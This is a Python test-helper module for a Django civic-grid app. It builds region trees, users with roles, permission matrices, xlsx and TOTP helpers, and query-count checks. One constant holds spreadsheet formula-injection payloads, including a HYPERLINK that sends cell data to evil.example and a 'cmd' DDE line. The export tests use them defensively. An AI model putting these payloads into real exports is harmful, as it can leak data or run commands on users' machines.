"""Test helpers shared by every app: a small region tree, users with roles, the permission matrix.

Not imported by production code.
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass

from civicgrid.accounts.models import Department, RoleAssignment, User
from civicgrid.geo.choices import RegionKind, RegionLevel
from civicgrid.geo.models import Region

DISTRICT = "211004"


def square(lng: float, lat: float, size: float) -> dict:
    """A GeoJSON Polygon: the square with south-west corner (lng, lat)."""
    ring = [[lng, lat], [lng + size, lat], [lng + size, lat + size], [lng, lat + size], [lng, lat]]
    return {"type": "Polygon", "coordinates": [ring]}


@dataclass
class Tree:
    """district > street A/B > community A/B > grid A/B > micro-grid A/B, with square boundaries:
    side A west of 123.2, side B east of it."""

    district: Region
    street_a: Region
    street_b: Region
    community_a: Region
    community_b: Region
    grid_a: Region
    grid_b: Region
    micro_a: Region
    micro_b: Region


def make_tree() -> Tree:
    def region(code, name, level, parent, boundary=None, kind=RegionKind.STANDARD):
        return Region.objects.create(code=code, name=name, level=level, parent=parent, boundary=boundary, kind=kind)

    district = region(DISTRICT, "宏伟区", RegionLevel.DISTRICT, None, square(123.1, 41.1, 0.2))
    nodes = {}
    for side, lng, seq in (("a", 123.1, "001"), ("b", 123.2, "002")):
        street = region(DISTRICT + seq, f"街道{side.upper()}", RegionLevel.STREET, district, square(lng, 41.1, 0.1))
        community = region(street.code + "001", f"社区{side.upper()}", RegionLevel.COMMUNITY, street, square(lng, 41.1, 0.1))
        grid = region(community.code + "001", f"网格{side.upper()}", RegionLevel.GRID, community,
                      square(lng, 41.1, 0.1), RegionKind.COMPREHENSIVE)
        micro = region(grid.code + "001", f"微网格{side.upper()}", RegionLevel.MICRO_GRID, grid, square(lng, 41.1, 0.05))
        nodes.update({f"street_{side}": street, f"community_{side}": community, f"grid_{side}": grid, f"micro_{side}": micro})
    return Tree(district=district, **nodes)


@dataclass
class City:
    """A city root over two districts (one street > community > grid each), side by side:
    district A (211004) west of 123.3, district B (211011) east of it."""

    city: Region
    district_a: Region
    district_b: Region
    grid_a: Region
    grid_b: Region


CITY = "2110"
CITY_POINT_A = {"lat": 41.12, "lng": 123.12}
CITY_POINT_B = {"lat": 41.12, "lng": 123.42}


def make_city() -> City:
    def region(code, name, level, parent, boundary, kind=RegionKind.STANDARD):
        return Region.objects.create(code=code, name=name, level=level, parent=parent, boundary=boundary, kind=kind)

    city = region(CITY, "辽阳市", RegionLevel.CITY, None, square(123.1, 41.1, 0.5))
    grids = {}
    for side, code, name, lng in (("a", "211004", "宏伟区", 123.1), ("b", "211011", "太子河区", 123.4)):
        district = region(code, name, RegionLevel.DISTRICT, city, square(lng, 41.1, 0.2))
        street = region(code + "001", f"{name}街道", RegionLevel.STREET, district, square(lng, 41.1, 0.1))
        community = region(street.code + "001", f"{name}社区", RegionLevel.COMMUNITY, street, square(lng, 41.1, 0.1))
        grid = region(community.code + "001", f"{name}网格", RegionLevel.GRID, community, square(lng, 41.1, 0.1),
                      RegionKind.COMPREHENSIVE)
        grids[side] = (district, grid)
    return City(city=city, district_a=grids["a"][0], district_b=grids["b"][0], grid_a=grids["a"][1],
                grid_b=grids["b"][1])


def make_department(code: str = "CG", name: str = "城管局") -> Department:
    return Department.objects.get_or_create(code=code, defaults={"name": name})[0]


def make_user(username: str, role: str | None = None, region: Region | None = None,
              department: Department | None = None, password: str = "Passw0rd!x") -> User:
    user = User.objects.create_user(username=username, password=password, display_name=username)
    if role:
        RoleAssignment.objects.create(user=user, role=role, region=region, department=department)
    return user


@dataclass
class Matrix:
    """The four viewers every scoped model is tested against."""

    anonymous: object
    no_permission: User  # an account holding only the audit-admin role
    other_region: User  # the right role, but over side B
    same_region: User  # the right role over side A


def make_matrix(tree: Tree, role: str, level: str = "grid", prefix: str = "m") -> Matrix:
    from django.contrib.auth.models import AnonymousUser

    return Matrix(
        anonymous=AnonymousUser(),
        no_permission=make_user(f"{prefix}_noperm", "audit_admin", tree.district),
        other_region=make_user(f"{prefix}_other", role, getattr(tree, f"{level}_b")),
        same_region=make_user(f"{prefix}_same", role, getattr(tree, f"{level}_a")),
    )


@contextmanager
def rolled_back(django_db_blocker):
    """For module-scoped fixtures that build a lot (the demo district): everything inside runs in one
    transaction that is rolled back at the end, so other test modules never see it, and the process's
    locator forgets the rolled-back boundaries."""
    from django.db import transaction

    from civicgrid.geo.locator import get_locator

    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            yield
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)
            get_locator().invalidate()


# text a spreadsheet program could run as a formula (OWASP CSV/formula injection), for the export tests
FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                "\t=1+1", "\r=1+1"]


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet of an .xlsx, read back with openpyxl as the file stores it (no formula
    results computed); asserts that none is a formula, since no export writes one."""
    from io import BytesIO

    from openpyxl import load_workbook

    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [f"{cell.parent.title}!{cell.coordinate}={cell.value!r}" for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"cells written as formulas: {formulas}"
    return cells


def xlsx_texts(content: bytes) -> set[str]:
    """The text of every string cell in an .xlsx (after `xlsx_cells` checked there is no formula)."""
    return {cell.value for cell in xlsx_cells(content) if cell.data_type == "s"}


def answer_text(response, guess: str = "") -> str:
    """A response as text to compare with another for a different input (the masking-oracle tests): the
    status, the content type and the body, with what legitimately differs between two requests replaced —
    CSRF tokens, CSP nonces, fresh idempotency keys and UUIDs, and `guess` (the value the request sent,
    which a page may echo in its search box or `next` link). An .xlsx is compared by its cells, a PDF
    without its creation date and document id."""
    import re

    content_type = response.get("Content-Type", "")
    if "spreadsheetml" in content_type:
        body = repr([(c.coordinate, c.value) for c in xlsx_cells(response.content)])
    elif "pdf" in content_type:
        body = re.sub(rb"/(CreationDate|ModDate) *\([^)]*\)|/ID *\[[^\]]*\]", b"", response.content).decode("latin-1")
    else:
        body = response.content.decode("utf-8", "replace")
        # masked CSRF tokens (mixed case: a keyed hash of an ID number, lower-case hex, stays visible)
        body = re.sub(r"\b(?=[A-Za-z0-9]{0,63}[A-Z])[A-Za-z0-9]{64}\b", "CSRF", body)
        body = re.sub(r'nonce="[^"]*"', 'nonce=""', body)
        body = re.sub(r"\b[0-9a-f]{8}-?[0-9a-f]{4}-?[0-9a-f]{4}-?[0-9a-f]{4}-?[0-9a-f]{12}\b", "UUID", body)
    if guess:
        body = body.replace(guess, "GUESS")
    return f"{response.status_code} {content_type}\n{body}"


def another_value(field, value, other_pk: int):
    """A different value of the same kind for a model `field` holding `value`, to edit a hash-chained row
    field by field (`other_pk`: a row a foreign key may point to instead)."""
    from datetime import timedelta

    from django.db import models

    if isinstance(field, models.ForeignKey):
        return other_pk if value != other_pk else None
    if isinstance(field, models.DateTimeField):
        return value + timedelta(seconds=1)
    if isinstance(field, models.JSONField):
        return {**value, "edited": True}
    if isinstance(field, models.IntegerField):
        return value + 100
    if isinstance(field, models.CharField | models.TextField):
        return ((value or "") + "x")[-(field.max_length or 1000):]
    raise AssertionError(f"no edit for {type(field).__name__} {field.name}: add one to another_value")


def enrol_totp(user):
    """A confirmed authenticator for `user` (as after enrolment), for tests that sign in with a code."""
    from django_otp.plugins.otp_totp.models import TOTPDevice

    return TOTPDevice.objects.create(user=user, name="test", confirmed=True)


def totp_code(user=None, *, device=None) -> str:
    """The code `user`'s authenticator shows now, computed from its key as the phone app does. A code is
    good once: after one was used in this time step, the next step's (still within the device's
    tolerance of one step) is returned, so a test may sign in again at once."""
    from django_otp.oath import TOTP
    from django_otp.plugins.otp_totp.models import TOTPDevice

    device = device or TOTPDevice.objects.filter(user=user).order_by("-confirmed", "-id").first()
    device.refresh_from_db()
    now = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift)
    ahead = max(0, device.last_t + 1 - now.t())
    code = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift + ahead).token()
    return f"{code:0{device.digits}d}"


# ---- query-count pins ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Pin:
    """A list page or endpoint whose query count is pinned (`*/tests/test_query_pins.py`): requested by
    `user` (a key of the users passed to `check_query_pins`), it may run at most `queries` queries with the
    larger fixture, and at most `growth` more than with the smaller one (0 unless a comment says why)."""

    url: str
    user: str
    queries: int
    growth: int = 0


def _measure(client, url: str) -> tuple[int, int, list[str]]:
    """(queries, body length, statements) of a GET of `url`, after one unmeasured GET: per-process caches
    (the configuration snapshot, the locator) fill on a first request and are not what a pin is about."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.get(url)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200, f"{url} answered {response.status_code}"
    return len(captured.captured_queries), len(response.content), [q["sql"] for q in captured.captured_queries]


def _repeated(before: list[str], after: list[str]) -> list[str]:
    """The statements (numbers blanked) run more often with more rows: where an N+1 query hides."""
    import re
    from collections import Counter

    def shapes(statements):
        return Counter(re.sub(r"\b\d+\b", "?", sql)[:300] for sql in statements)

    small, large = shapes(before), shapes(after)
    return [f"    {large[sql] - small[sql]:+d} × {sql}" for sql in large if large[sql] > small[sql]]


def check_query_pins(pins: dict, users: dict, grow, small: int = 3, large: int = 15) -> None:
    """Measure every pin with `small` rows of each kind (`grow(small)` adds them), add rows up to `large`
    (`grow(large - small)`) and measure again. Fails, naming every offender, when a larger fixture shows no
    more (the rows must be visible for the count to mean anything), when the count grows by more than
    the pin's `growth` (an N+1 query) or when it exceeds the pinned number."""
    from django.test import Client

    clients = {}
    for key, user in users.items():
        clients[key] = Client()
        if user is not None:
            clients[key].force_login(user)
    grow(small)
    before = {name: _measure(clients[pin.user], pin.url) for name, pin in pins.items()}
    grow(large - small)
    after = {name: _measure(clients[pin.user], pin.url) for name, pin in pins.items()}
    problems = []
    for name, pin in pins.items():
        (queries_small, size_small, sql_small), (queries_large, size_large, sql_large) = before[name], after[name]
        if size_large <= size_small:
            problems.append(f"{name}: {large} rows show no more than {small} ({size_small} → {size_large} bytes)")
        if queries_large - queries_small > pin.growth:
            problems.append(f"{name}: {queries_small} queries with {small} rows, {queries_large} with {large}")
            problems += _repeated(sql_small, sql_large)
        if queries_large > pin.queries:
            problems.append(f"{name}: {queries_large} queries, pinned at {pin.queries}")
    assert not problems, "\n".join(problems)


def fetch_disagreements(model, users, ids, related=(), perm: str | None = None) -> list[tuple]:
    """(user, id, through the scoped query, through fetch_visible) wherever `scoping.fetch_visible` and
    `get_visible` answer differently (found or not): the two forms of the door must agree on a model whose
    actions use the fast one. A found row must also be the same row with the same related rows."""
    from civicgrid.core import errors
    from civicgrid.core.scoping import fetch_visible, get_visible

    def found(look):
        try:
            return look()
        except errors.NotFound:
            return None

    paths = [path for path, _names in related]
    out = []
    for user in users:
        for pk in ids:
            slow = found(lambda pk=pk, user=user: get_visible(model.objects.select_related(*paths), user, perm, pk=pk))
            fast = found(lambda pk=pk, user=user: fetch_visible(model, user, perm, pk=pk, related=related))
            same = (slow is None) == (fast is None) and (slow is None or (
                slow.pk == fast.pk and all(_walk_pk(slow, path) == _walk_pk(fast, path) for path in paths)))
            if not same:
                out.append((user.username, pk, slow is not None, fast is not None))
    return out


def _walk_pk(obj, path: str):
    for part in path.split("__"):
        obj = getattr(obj, part) if obj is not None else None
    return None if obj is None else obj.pk
